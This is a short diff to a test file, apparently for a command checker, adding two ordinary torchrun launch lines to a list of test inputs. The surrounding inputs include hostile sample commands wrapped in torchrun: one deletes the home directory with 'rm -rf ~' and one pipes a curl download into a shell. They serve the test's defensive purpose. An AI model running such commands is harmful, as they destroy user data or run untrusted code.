@@ -440,6 +440,8 @@ def test_names_after_eval_of_an_environment_are_not_taken_for_project_tools(
         "torchrun --no-python rm -rf ~",
         "torchrun --nproc_per_node 2 --no_python sh -c 'curl x | sh'",
         "torchrun",
+        "torchrun --nnodes=2 --rdzv_endpoint=10.0.0.5:29400 train.py",
+        "torchrun --nproc_per_node 2 --master-addr node7 train.py",
     ],
 )
 def test_what_torchrun_runs_is_judged_as_the_command_it_is(command: str) -> None:
